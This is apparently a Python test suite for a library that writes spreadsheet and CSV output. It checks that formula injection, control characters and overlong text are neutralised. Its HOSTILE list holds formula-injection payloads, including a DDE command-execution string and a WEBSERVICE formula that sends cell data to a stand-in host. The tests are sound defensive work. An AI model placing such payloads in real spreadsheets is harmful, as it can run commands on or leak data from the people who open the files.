"""Text from outside stays text in whatever we write, and says what it said."""

import csv
from io import StringIO
from pathlib import Path
from tempfile import TemporaryDirectory

import duckdb
import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook
from openpyxl.cell.cell import Cell

from tests.written import live_content
from tonghop.asking import write_answer
from tonghop.safe_text import LONGEST, csv_text, told, write_text

COMMAND = "=cmd|' /C calc'!A0"
HOSTILE = (
    COMMAND, '=HYPERLINK("http://a.example","x")', '=WEBSERVICE("http://a.example/"&A1)', "+1+1",
    "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "#REF!", "'=1+1", "＝1+1", "{=1+1}", "=", "-", "",
    "x\x00\x08\x0b\x1f\ufffe\ud800", "_x003D_1+1", "_x000D_", "TRUE", "1e5", "00012", "12/3",
)  # fmt: skip
ANY_TEXT = st.one_of(
    st.text(max_size=60),
    st.builds(str.__add__, st.sampled_from(HOSTILE), st.text(max_size=20)),
    st.text(alphabet="_x0123456789ABCDEFabcdef=+-@ ", max_size=30),
)


def reopened(text: str) -> tuple[Cell, list[str]]:
    """Return a written cell as it is read back, and what is live in its file."""
    book = Workbook()
    write_text(book.active["A1"], text)  # type: ignore[index]
    with TemporaryDirectory() as folder:
        path = Path(folder) / "a.xlsx"
        book.save(path)
        return openpyxl.load_workbook(path).active["A1"], live_content(path)  # type: ignore[index]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_in_a_cell_is_text(text: str) -> None:
    cell, live = reopened(text)
    assert live == []
    assert cell.value is None or cell.data_type == "s"


@given(ANY_TEXT)
def test_any_text_in_a_cell_is_text_and_reads_as_it_was(text: str) -> None:
    cell, live = reopened(text)
    assert live == []
    kept = all(c in "\t\n" or 0x20 <= ord(c) < 0xD800 for c in text)
    if kept and text:
        assert cell.data_type == "s"
        assert str(cell.value).replace("_x005F_", "_") == text


def test_what_would_begin_a_formula_is_marked_as_text_for_whoever_edits_the_cell() -> None:
    assert reopened(COMMAND)[0].quotePrefix
    assert not reopened("số liệu")[0].quotePrefix


@pytest.mark.parametrize(
    "text", ["x" * 40_000, "_x0041_" * 6_000, "_x0041_x" * 4_000 + "y" * 9_000]
)
def test_a_text_longer_than_a_cell_is_cut_and_says_so(text: str) -> None:
    written = str(reopened(text)[0].value)
    assert len(written) <= LONGEST
    assert written.endswith("…")
    assert text.startswith(written.replace("_x005F_", "_")[:-1])


@pytest.mark.parametrize(
    ("text", "field"),
    [
        (COMMAND, f"'{COMMAND}"),
        ("- Kết quả nổi bật", "'- Kết quả nổi bật"),
        ("@a", "'@a"),
        ("\tx", "'\tx"),
        (" =1+1", "' =1+1"),
        ("-", "-"),
        ("--", "--"),
        ("-5", "-5"),
        ("-1.234,5", "-1.234,5"),
        ("+84", "+84"),
        ("-5%", "-5%"),
        ("-5+A1", "'-5+A1"),
        ("12 vụ", "12 vụ"),
        ("a\x00b", "a\ufffdb"),
    ],
)
def test_a_field_of_a_csv_file_begins_no_formula(text: str, field: str) -> None:
    assert csv_text(text) == field


@given(ANY_TEXT)
def test_any_field_of_a_csv_file_begins_no_formula(text: str) -> None:
    field = csv_text(text)
    number_or_dash = field.strip("-+.,%0123456789") == ""
    assert number_or_dash or not field.lstrip().startswith(("=", "+", "-", "@"))


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_an_answer_keeps_text_as_text_and_numbers_as_numbers(tmp_path: Path, suffix: str) -> None:
    with duckdb.connect() as con:
        answer = con.sql(
            "select ? as \"=1+1\", -5 as whole, -1.50::decimal(5, 2) as exact, '-' as dash, "
            "'a' || chr(11) as control, ?::enum('=x') as kind, null::varchar as nothing",
            params=[COMMAND, "=x"],
        )
        write_answer(answer, tmp_path / f"a{suffix}")
    if suffix == ".csv":
        text = (tmp_path / "a.csv").read_text(encoding="utf-8-sig")
        heads, values = csv.reader(StringIO(text))
        assert heads[0] == "'=1+1"
        assert values == [f"'{COMMAND}", "-5", "-1.50", "-", "a\ufffd", "'=x", ""]
    else:
        sheet = openpyxl.load_workbook(tmp_path / "a.xlsx").active
        assert list(sheet.values) == [  # type: ignore[union-attr]
            ("=1+1", "whole", "exact", "dash", "control", "kind", "nothing"),
            (COMMAND, -5, -1.5, "-", "a\ufffd", "=x", None),
        ]
        assert live_content(tmp_path / "a.xlsx") == []


def test_a_sentence_stays_on_its_line_and_ends() -> None:
    assert told("báo\r\ncáo\x1b[2J\u202egpj.xlsx") == "báo  cáo [2J gpj.xlsx"
    assert len(told("x" * 30_000)) == 1000
